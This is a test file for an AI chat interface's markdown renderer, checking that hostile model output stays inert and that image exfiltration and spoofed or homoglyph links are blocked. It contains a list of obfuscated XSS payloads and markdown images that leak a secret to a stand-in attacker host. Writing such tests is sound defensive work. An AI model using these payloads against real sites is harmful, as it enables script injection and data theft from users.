// Hostile model output (relay-security.md §5 item 26): nothing executes, no remote image is fetched,
// links keep to http/https/mailto, and streaming keeps finished blocks' DOM nodes.
import { expect, fixture, html, aTimeout } from '@open-wc/testing';
import { render } from 'lit';
import {
  StreamingMarkdown, renderMarkdown, safeUrl, spoofedLinkHost, parseHostList, sanitizeHtml,
} from '../../src/elements/internal/markdown.js';
import { markdown } from '../../src/elements/internal/markdown-directive.js';
import { probeHits, resetProbe, probeUrl } from './helpers/probe.js';

declare global {
  interface Window { __pwned?: unknown }
}

const PWN = 'window.__pwned=1';

const hostile: Array<[string, string]> = [
  ['img onerror', `<img src=x onerror="${PWN}">`],
  ['img onerror inline', `hello <img src=x onerror=${PWN}> world`],
  ['svg onload', `<svg onload="${PWN}"><circle r=1 /></svg>`],
  ['svg onload inline', `text <svg/onload=${PWN}> text`],
  ['script block', `<script>${PWN}</script>`],
  ['script inline', `a <script>${PWN}</script> b`],
  ['iframe', `<iframe src="javascript:${PWN}"></iframe>`],
  ['details ontoggle', `<details open ontoggle="${PWN}"><summary>x</summary></details>`],
  ['raw anchor', `<a href="javascript:${PWN}">click</a>`],
  ['style tag', `<style>*{background:url(${probeUrl('css')})}</style>`],
  ['javascript link', `[click](javascript:${PWN})`],
  ['javascript link upper case', `[click](JaVaScRiPt:${PWN})`],
  ['javascript link with tab', `[click](java\tscript:${PWN})`],
  ['entity-obfuscated javascript', `[click](jav&#x61;script:${PWN})`],
  ['decimal entity javascript', `[click](&#106;avascript:${PWN})`],
  ['named entity colon', `[click](javascript&colon;${PWN})`],
  ['data link', `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`],
  ['data link plain', `[click](data:text/html,<script>${PWN}</script>)`],
  ['vbscript link', `[click](vbscript:msgbox(1))`],
  ['javascript autolink', `<javascript:${PWN}>`],
  ['javascript reference link', `[click][r]\n\n[r]: javascript:${PWN}`],
  ['javascript image', `![x](javascript:${PWN})`],
  ['link title breakout', `[x](https://ok.test "a\\" onmouseover=\\"${PWN}")`],
  ['code fence with html', '```html\n<img src=x onerror="' + PWN + '">\n```'],
  ['html in link text', `[<img src=x onerror=${PWN}>](https://ok.test)`],
];

function assertInert(root: Element | DocumentFragment) {
  for (const tag of ['script', 'svg', 'iframe', 'object', 'embed', 'style', 'details', 'form', 'input', 'math']) {
    expect(root.querySelector(tag), `<${tag}> rendered`).to.equal(null);
  }
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      expect(attr.startsWith('on'), `${el.localName} has ${attr}`).to.equal(false);
      expect(attr, 'style attribute').to.not.equal('style');
    }
  }
  for (const a of root.querySelectorAll('a')) {
    const href = a.getAttribute('href');
    if (href === null) continue;
    expect(['http:', 'https:', 'mailto:']).to.include(new URL(href).protocol);
    expect(a.getAttribute('target')).to.equal('_blank');
    expect(a.getAttribute('rel')).to.equal('noopener noreferrer nofollow');
  }
  for (const img of root.querySelectorAll('img')) {
    // Only images of allowed hosts survive; none of these fixtures allows any.
    expect(img.getAttribute('src'), 'image source').to.equal(null);
  }
}

describe('markdown renderer: hostile output', () => {
  beforeEach(() => {
    delete window.__pwned;
  });

  for (const [name, source] of hostile) {
    it(`renders ${name} inert`, async () => {
      const host = await fixture<HTMLDivElement>(html`<div></div>`);
      host.innerHTML = renderMarkdown(source);
      assertInert(host);
      // Click every link: none may run script.
      for (const a of host.querySelectorAll('a')) {
        a.addEventListener('click', (e) => e.preventDefault(), { once: true });
        a.click();
      }
      await aTimeout(20);
      expect(window.__pwned).to.equal(undefined);
    });
  }

  it('shows raw HTML as text', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    host.innerHTML = renderMarkdown(`Hi <b>bold</b> <img src=x onerror=${PWN}>`);
    expect(host.textContent).to.contain('<b>bold</b>');
    expect(host.textContent).to.contain('<img src=x onerror=');
    expect(host.querySelector('b')).to.equal(null);
  });

  it('keeps http, https and mailto links and opens them in a new tab', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    host.innerHTML = renderMarkdown('[a](https://a.test/x?y=1&z=2) [b](http://b.test) [c](mailto:c@c.test) <https://auto.test> www.gfm.test');
    const links = [...host.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).to.deep.equal([
      'https://a.test/x?y=1&z=2', 'http://b.test/', 'mailto:c@c.test', 'https://auto.test/', 'http://www.gfm.test/',
    ]);
    assertInert(host);
  });

  it('renders relative and unknown-protocol links as plain text', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    host.innerHTML = renderMarkdown('[rel](/path) [ftp](ftp://x.test/f) [tel](tel:123)');
    expect(host.querySelectorAll('a').length).to.equal(0);
    expect(host.textContent).to.contain('rel');
  });

  it('safeUrl decodes entities and rejects dangerous protocols', () => {
    expect(safeUrl('jav&#x61;script:alert(1)')).to.equal(null);
    expect(safeUrl('&#x6A;&#x61;vascript:alert(1)')).to.equal(null);
    expect(safeUrl(' javascript:alert(1)')).to.equal(null);
    expect(safeUrl('data:text/html,x')).to.equal(null);
    expect(safeUrl('vbscript:x')).to.equal(null);
    expect(safeUrl('https://ok.test/a&amp;b')!.href).to.equal('https://ok.test/a&b');
  });

  it('DOMPurify second layer strips what a broken first layer could let through', () => {
    const out = document.createElement('div');
    out.innerHTML = sanitizeHtml(`<p onclick="${PWN}">x</p><a href="javascript:${PWN}">y</a><img src="https://evil.test/x"><svg onload="${PWN}"></svg><p style="background:url(https://evil.test)">z</p>`);
    assertInert(out);
    expect(out.querySelector('p')!.hasAttribute('style')).to.equal(false);
    out.innerHTML = sanitizeHtml('<p class="launcher visually-hidden language-js parley-task">x</p><p class="panel">y</p>');
    expect([...out.querySelectorAll('p')].map((p) => p.getAttribute('class'))).to.deep.equal(['language-js parley-task', null]);
  });
});

describe('markdown renderer: streaming', () => {
  beforeEach(() => {
    delete window.__pwned;
  });

  async function streamInto(deltas: string[], options: { allowImageHosts?: string[] } = {}) {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    let text = '';
    const snapshots: string[] = [];
    for (const delta of deltas) {
      text += delta;
      render(html`<div class="md" ${markdown(text, { streaming: true, ...options })}></div>`, host);
      assertInert(host);
      snapshots.push(host.innerHTML);
    }
    render(html`<div class="md" ${markdown(text, { streaming: false, ...options })}></div>`, host);
    assertInert(host);
    return host.querySelector<HTMLDivElement>('.md')!;
  }

  it('HTML split across deltas never becomes markup', async () => {
    const md = await streamInto(['Look: <im', 'g src=x on', 'error="', PWN, '"> and <scr', 'ipt>', PWN, '</scr', 'ipt>\n\n<svg', ' onload=', PWN, '>']);
    await aTimeout(20);
    expect(window.__pwned).to.equal(undefined);
    expect(md.textContent).to.contain('<img src=x onerror=');
  });

  it('a javascript: link split across deltas stays text', async () => {
    const md = await streamInto(['[click](jav', 'ascr', 'ipt:', PWN, ')']);
    expect(md.querySelector('a')).to.equal(null);
  });

  it('keeps the DOM nodes of finished blocks while the reply grows', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    const put = (text: string, streaming = true) => render(html`<div class="md" ${markdown(text, { streaming })}></div>`, host);
    put('# Title\n\nFirst para');
    const md = host.querySelector('.md')!;
    const h1 = md.querySelector('h1')!;
    expect(h1.textContent).to.equal('Title');
    put('# Title\n\nFirst paragraph.\n\nSecond');
    const p1 = md.querySelector('p')!;
    expect(p1.textContent).to.equal('First paragraph.');
    put('# Title\n\nFirst paragraph.\n\nSecond paragraph.\n\n- one\n- two');
    put('# Title\n\nFirst paragraph.\n\nSecond paragraph.\n\n- one\n- two\n- three', false);
    expect(md.querySelector('h1')).to.equal(h1);
    expect(md.querySelector('p')).to.equal(p1);
    expect([...md.querySelectorAll('li')].map((li) => li.textContent)).to.deep.equal(['one', 'two', 'three']);
    expect(md.children.length).to.equal(4);
  });

  it('a reference definition arriving later links earlier blocks without rendering the rest again', async () => {
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    const put = (text: string, streaming = true) => render(html`<div class="md" ${markdown(text, { streaming })}></div>`, host);
    put('Intro.\n\nSee [the docs][d].\n\nMore');
    const md = host.querySelector('.md')!;
    const intro = md.querySelector('p')!;
    put('Intro.\n\nSee [the docs][d].\n\nMore text.\n\n[d]: https://docs.test/x\n\n');
    put('Intro.\n\nSee [the docs][d].\n\nMore text.\n\n[d]: https://docs.test/x\n\n', false);
    expect(md.querySelector('p')).to.equal(intro);
    expect(md.querySelector('a')!.getAttribute('href')).to.equal('https://docs.test/x');
  });

  it('StreamingMarkdown renders only the growing block per delta', () => {
    const stream = new StreamingMarkdown();
    let u = stream.update('Para one.\n\nPara');
    expect(u.finished.length).to.equal(1);
    expect(u.tail).to.contain('Para');
    u = stream.update('Para one.\n\nPara two');
    expect(u.finished.length).to.equal(0);
    expect(u.tail).to.contain('Para two');
    u = stream.update('Other text');
    expect(u.reset).to.equal(true);
  });
});

describe('markdown renderer: images', () => {
  beforeEach(async () => {
    await resetProbe();
  });

  it('does not fetch a remote image, inline or reference-style, while streaming or finished', async () => {
    const secretInline = probeUrl('inline?q=SECRET');
    const secretRef = probeUrl('reference?q=SECRET');
    const text = `Summary ![](${secretInline}) and ![x][r] and ![](https://evil.test/?q=SECRET)\n\n![y][r]\n\n[r]: ${secretRef}\n`;
    const observed: string[] = [];
    const observer = new PerformanceObserver((list) => list.getEntries().forEach((e) => observed.push(e.name)));
    observer.observe({ type: 'resource', buffered: false });

    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    let acc = '';
    for (const ch of text.match(/.{1,5}/gs)!) {
      acc += ch;
      render(html`<div class="md" ${markdown(acc, { streaming: true, allowImageHosts: ['cdn.allowed.test'] })}></div>`, host);
    }
    render(html`<div class="md" ${markdown(acc, { streaming: false, allowImageHosts: ['cdn.allowed.test'] })}></div>`, host);
    const finished = document.createElement('div');
    finished.innerHTML = renderMarkdown(text, { allowImageHosts: ['cdn.allowed.test'] });
    host.append(finished);

    await aTimeout(300);
    observer.disconnect();
    expect(host.querySelectorAll('img').length).to.equal(0);
    const placeholders = [...host.querySelectorAll('.parley-image-blocked')].map((el) => el.textContent);
    expect(placeholders.length).to.be.greaterThan(3);
    expect(placeholders.some((t) => t!.includes('evil.test'))).to.equal(true);
    expect(placeholders.some((t) => t!.includes(location.hostname))).to.equal(true);
    expect(observed.filter((name) => name.includes('SECRET') || name.includes('evil.test'))).to.deep.equal([]);
    expect(performance.getEntriesByType('resource').filter((e) => e.name.includes('SECRET'))).to.deep.equal([]);
    expect(await probeHits()).to.deep.equal([]);
  });

  it('loads images from allowed hosts', async () => {
    const src = probeUrl('allowed.png');
    const host = await fixture<HTMLDivElement>(html`<div></div>`);
    host.innerHTML = renderMarkdown(`![ok](${src}) ![ref][i]\n\n[i]: ${probeUrl('allowed-ref.png')}`, { allowImageHosts: parseHostList(`other.test ${location.hostname}`) });
    const imgs = [...host.querySelectorAll('img')];
    expect(imgs.length).to.equal(2);
    await Promise.all(imgs.map((img) => img.decode()));
    expect(imgs[0].naturalWidth).to.equal(1);
    expect(imgs[0].getAttribute('referrerpolicy')).to.equal('no-referrer');
    const hits = await probeHits();
    expect(hits.map((h) => h.path)).to.have.members(['/api-test/probe/allowed.png', '/api-test/probe/allowed-ref.png']);
  });
});

describe('spoofed links', () => {
  it('detects link text showing another host than the href', () => {
    expect(spoofedLinkHost('https://bank.test/login', 'https://evil.test/login')).to.deep.equal({ shown: 'bank.test', real: 'evil.test' });
    expect(spoofedLinkHost('bank.test', 'https://evil.test')).to.deep.equal({ shown: 'bank.test', real: 'evil.test' });
    expect(spoofedLinkHost('Log in at https://bank.test now', 'https://evil.test')).to.deep.equal({ shown: 'bank.test', real: 'evil.test' });
    expect(spoofedLinkHost('x', 'https://bank.test@evil.test/')).to.deep.equal({ shown: 'bank.test', real: 'evil.test' });
    expect(spoofedLinkHost('bаnk.test', 'https://bank.test')).to.deep.equal({ shown: 'xn--bnk-6cd.test', real: 'bank.test' });
  });

  it('lets honest links through', () => {
    expect(spoofedLinkHost('the docs', 'https://docs.test')).to.equal(null);
    expect(spoofedLinkHost('docs.test/guide', 'https://docs.test/guide')).to.equal(null);
    expect(spoofedLinkHost('www.docs.test', 'https://docs.test/')).to.equal(null);
    expect(spoofedLinkHost('Node.js', 'https://nodejs.org')).to.equal(null);
    expect(spoofedLinkHost('https://docs.test', 'https://docs.test/')).to.equal(null);
  });
});

describe('spoofed link confirmation in <agent-chat>', () => {
  it('asks before opening a link whose text shows another host, and shows the real host', async () => {
    await import('../../src/elements/agent-chat/define.js');
    const { FakeSession, reply, userMessage } = await import('./helpers/fake-session.js');
    const session = new FakeSession();
    const el = await fixture<HTMLElement>(html`<agent-chat .session=${session}></agent-chat>`);
    session.set({
      conversationId: 'c1',
      entries: [
        userMessage('u1', 'Where do I log in?'),
        reply('r1', 'Log in at [https://bank.test/login](https://evil.test/steal) or read [the guide](https://docs.test/guide).'),
      ],
    });
    await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
    const root = el.shadowRoot!;
    const [spoofed, honest] = [...root.querySelectorAll<HTMLAnchorElement>('.markdown a')];
    expect(spoofed.rel).to.equal('noopener noreferrer nofollow');
    expect(spoofed.target).to.equal('_blank');

    const opened: unknown[][] = [];
    const realOpen = window.open;
    window.open = ((...args: unknown[]) => { opened.push(args); return null; }) as typeof window.open;
    // Navigation the element lets through is cancelled here (after the element's own handler ran).
    let navigations = 0;
    const stopNavigation = (e: Event) => { if (!e.defaultPrevented) navigations++; e.preventDefault(); };
    el.addEventListener('click', stopNavigation);
    try {
      honest.click();
      expect(navigations, 'an honest link opens directly').to.equal(1);
      const dialog = root.querySelector('dialog')!;
      expect(dialog.open).to.equal(false);

      spoofed.click();
      expect(navigations, 'the spoofed link did not navigate').to.equal(1);
      await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      expect(dialog.open).to.equal(true);
      expect(dialog.textContent).to.contain('bank.test');
      expect(dialog.querySelector('.real-host')!.textContent).to.equal('evil.test');
      dialog.querySelector<HTMLButtonElement>('.cancel')!.click();
      await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      expect(dialog.open).to.equal(false);
      expect(opened).to.deep.equal([]);

      spoofed.click();
      await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      dialog.querySelector<HTMLButtonElement>('.confirm')!.click();
      await (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      expect(dialog.open).to.equal(false);
      expect(opened).to.deep.equal([['https://evil.test/steal', '_blank', 'noopener,noreferrer']]);
    } finally {
      window.open = realOpen;
      el.removeEventListener('click', stopNavigation);
    }
  });
});
